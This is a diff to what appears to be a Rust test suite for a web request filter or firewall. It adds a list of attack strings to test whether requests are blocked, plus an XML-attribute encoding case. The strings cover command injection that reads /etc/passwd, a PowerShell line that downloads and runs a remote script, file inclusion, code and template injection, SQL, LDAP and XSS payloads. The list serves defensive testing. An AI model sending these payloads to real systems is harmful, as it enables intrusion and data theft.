@@ -124,6 +124,25 @@ const VALUES: &[(&str, &str)] = &[
     ("prototype", "{\"__proto__\": {\"admin\": true}}"),
     ("xxe", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
     ("scanner", "http://x7.oast.fun/"),
+    ("command", "cat /etc/passwd"),
+    ("command", "<(cat /tmp/x)"),
+    ("command", "powershell C:\\Windows\\x.ps1"),
+    ("command", ";iex (iwr http://10.0.0.1/x.ps1)"),
+    ("command", "for /f \"tokens=*\" %G in ('dir /b') do call x"),
+    ("traversal", "/etc/[m-z]asswd"),
+    ("inclusion", "http://192.0.2.1/x.php"),
+    ("code", "<? exec('id'); ?>"),
+    ("code", "('system')('id')"),
+    ("template", "#{require.main.constructor._load('child_process')}"),
+    ("template", "@{[qx{whoami}]}"),
+    ("expression", "java.lang.ProcessBuilder"),
+    ("deserialisation", "org.example.InvokerTransformer"),
+    ("sqli", "x' or '{\"b\":2}'::jsonb <@ y"),
+    ("sqli", "select sleep(20 div 3)"),
+    ("ldapi", "admin)(|"),
+    ("xss", "ja&tab;vascript&colon;alert(1)"),
+    ("xss", "alert(document.domain)"),
+    ("xss", "window[\"alert\"](1)"),
 ];
 
 pub(super) fn core() -> Instance {
@@ -140,6 +159,10 @@ pub(super) fn json(text: &str) -> String {
 
 pub(super) fn xml(text: &str) -> String {
     text.replace('&', "&amp;").replace('<', "&lt;")
+}
+
+fn attribute(text: &str) -> String {
+    xml(text).replace('"', "&quot;").replace('\n', "&#10;").replace('\t', "&#9;")
 }
 
 pub(super) fn blocked(ran: &Ran) -> bool {
@@ -171,6 +194,7 @@ pub(super) fn everywhere(value: &str) -> Vec<(&'static str, Case)> {
         ("json under another type", post("text/plain", format!("{{\"a\":{}}}", json(value)))),
         ("multipart", multipart(value)),
         ("xml", post("application/xml", format!("<a><b>{}</b></a>", xml(value)))),
+        ("xml attribute", post("application/xml", format!("<a><b c=\"{}\"/></a>", attribute(value)))),
         ("text", post("text/plain", value.to_owned())),
     ]
 }
